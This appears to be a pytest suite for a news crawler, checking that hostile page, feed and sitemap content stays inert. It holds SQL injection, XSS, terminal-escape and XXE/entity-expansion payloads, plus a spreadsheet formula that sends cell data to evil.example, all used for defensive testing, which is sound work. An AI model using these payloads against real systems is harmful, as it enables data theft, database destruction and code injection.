"""Words and addresses that would act somewhere, sent by a real server: they stay text, and nothing is asked for."""

from __future__ import annotations

import csv
import io
from html import escape
from pathlib import Path
from urllib.parse import quote

import feedparser

from monitor.saved_web import SavedWeb
from tests.browsing import browse
from tests.commands import run_process
from tests.sweeping import FEED, put_feed, rows, rss, store, story_page, story_url, sweep, write_outlets

SQL = "Robert'); DROP TABLE articles; --"
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Read on")'
ESCAPES = "\x1b[31mred\x1b]0;owned\x07 \u202egnp.exe [bold]loud[/bold]"
TITLES = {  # what a page calls itself -> what is kept of it
    SQL: SQL,
    f"{MARKUP} on the pier": f"{MARKUP} on the pier",
    f"{FORMULA} and more": f"{FORMULA} and more",
    f"Boats {ESCAPES}": None,
}
XML = "application/xml"


def page(number: int, title: str) -> str:
    """A story with hostile words in its title, its text and its byline."""
    said = escape(title)
    plain = story_page(
        number, f"<p>The words {said} stood on the wall, said {said}, and nobody wiped them off.</p>"
    )
    old = (
        f"Council takes up the {story_url(number).rpartition('-the-')[2].rpartition('-')[0]} on day {number}"
    )
    head = f'<meta name="author" content="{escape(SQL)}">'
    return plain.replace(old, said).replace("<title>", f"{head}<title>")


def test_hostile_words_stay_text_in_store_pages_terminal_feeds_and_tables(
    web: SavedWeb, tmp_path: Path
) -> None:
    urls = [story_url(number) for number in range(len(TITLES))]
    for number, title in enumerate(TITLES):
        web.answer(urls[number], body=page(number, title))
    put_feed(web, FEED, urls)
    write_outlets(tmp_path)
    assert sweep(tmp_path, web).code == 0
    db = store(tmp_path)
    kept = dict(rows(db, "SELECT url, title FROM articles"))
    texts = dict(rows(db, "SELECT url, text FROM articles"))
    for url, (title, wanted) in zip(urls, TITLES.items(), strict=True):
        assert wanted is None or (kept[url] == wanted and f"The words {title} stood" in texts[url])
    assert "\x1b" not in "".join([*kept.values(), *texts.values()])
    (number,) = set(rows(db, "SELECT story_id FROM articles"))
    for command in (("story", number), ("stories",), ("stories", "--json")):
        shown = run_process(*command, "--db", tmp_path / "news.db").out
        assert "Boats" in shown and not {"\x1b", "\x07", "\u202e"} & set(shown)
        assert command[0] == "stories" or (SQL in shown and MARKUP in shown and "[bold]loud" in shown)
    with browse(tmp_path / "news.db") as site:
        for path in ("?time=all", "news/articles", f"story/{number}", f"feeds/stories.atom?q={quote(SQL)}"):
            html = site.get(path)
            assert "<script>alert(1)" not in html and "<img src=x" not in html and "\x1b" not in html
        assert escape(MARKUP)[6:30] in site.get(f"story/{number}")
        cells = list(csv.DictReader(io.StringIO(site.get("news/articles.csv?_stream=1"), newline="")))
        titles = {row["url"]: row["title"] for row in cells}
        assert titles[urls[2]] == f"'{FORMULA} and more" and titles[urls[0]] == SQL
        feed = feedparser.parse(site.get("feeds/stories.atom"))
        assert not feed.bozo and "[bold]loud" in feed.entries[0].title
    assert rows(db, "SELECT count(*) FROM articles") == [len(TITLES)]


def test_entities_of_feeds_sitemaps_and_pages_ask_for_nothing_and_stay_small(
    web: SavedWeb, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("http://harbour.example/the-secret")
    nested = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    outside = "http://harbour.example/outside"
    kinds = f'<!ENTITY file SYSTEM "{secret.as_uri()}"><!ENTITY web SYSTEM "{outside}.ent">'
    kinds += f'<!ENTITY % part SYSTEM "{outside}.dtd">%part;<!ENTITY e0 "ha">{nested}'

    def doctype(name: str) -> str:
        return f'<?xml version="1.0"?><!DOCTYPE {name} SYSTEM "{outside}.xml" [{kinds}]>'

    listed = "<item><title>&e11; &file; &web;</title><link>http://harbour.example/&file;&web;</link></item>"
    good = story_url(0)
    feed = (
        rss([good])
        .replace('<?xml version="1.0"?>', doctype("rss"))
        .replace("</channel>", f"{listed}</channel>")
    )
    web.answer(FEED, headers={"Content-Type": "application/rss+xml"}, body=feed)
    locations = "<url><loc>http://harbour.example/&file;</loc></url><url><loc>&e11;</loc></url>"
    sitemap = "http://harbour.example/sitemap.xml"
    web.answer(
        sitemap,
        headers={"Content-Type": XML},
        body=f"{doctype('urlset')}<urlset>{locations}<url><loc>{story_url(1)}</loc></url></urlset>",
    )
    xhtml = story_page(0, "<p>The entities said &e11; &file; &web; and no more than that, he told us.</p>")
    web.answer(good, headers={"Content-Type": "application/xhtml+xml"}, body=doctype("html") + xhtml)
    web.answer(story_url(1), body=story_page(1))
    write_outlets(tmp_path, extra=f'sitemaps = ["{sitemap}"]\n')
    sweep(tmp_path, web)
    asked = {request.url for request in web.requests}
    assert {good, FEED, sitemap, story_url(1)} <= asked
    assert not [url for url in asked if "outside" in url or "secret" in url]
    db = store(tmp_path)
    assert rows(db, "SELECT url FROM articles WHERE fetched_at IS NOT NULL ORDER BY url") == sorted(
        [good, story_url(1)]
    )
    kept = rows(db, "SELECT coalesce(title, '') || coalesce(text, '') FROM articles")
    kept += rows(db, "SELECT url || coalesce(title, '') FROM entries")
    assert all("the-secret" not in text and len(text) < 10_000 for text in kept)


def test_what_is_no_address_of_the_web_is_never_opened(web: SavedWeb, tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text(story_page(5))
    bad = [secret.as_uri(), "data:text/html,<h1>Pier</h1>", "javascript:alert(1)", "ftp://harbour.example/a"]
    moved = [f"http://harbour.example/moved/{number}" for number in range(len(bad))]
    for here, there in zip(moved, bad, strict=True):
        web.answer(here, status=302, headers={"Location": there}, body="")
    refresh = f'<html><head><meta http-equiv="refresh" content="0; url={secret.as_uri()}"></head></html>'
    web.answer("http://harbour.example/refreshed", body=refresh)
    good = story_url(0)
    cited = "".join(f'<p>Source: <a href="{url}">Tidewire</a></p>' for url in bad)
    web.answer(good, body=story_page(0, cited))
    put_feed(web, FEED, [*bad, *moved, "http://harbour.example/refreshed", good])
    sitemap = "http://harbour.example/sitemap.xml"
    index = "".join(f"<sitemap><loc>{escape(url)}</loc></sitemap>" for url in bad)
    web.answer(sitemap, headers={"Content-Type": XML}, body=f"<sitemapindex>{index}</sitemapindex>")
    write_outlets(tmp_path, extra=f'sitemaps = ["{sitemap}"]\n')
    ended = sweep(tmp_path, web)
    assert "Traceback" not in ended.err
    db = store(tmp_path)
    assert rows(db, "SELECT url FROM articles WHERE fetched_at IS NOT NULL AND kind <> 'stub'") == [good]
    assert {request.url.partition(":")[0] for request in web.requests} == {"http"}
    assert rows(db, "SELECT count(*) FROM entries WHERE url NOT LIKE 'http%'") == [0]
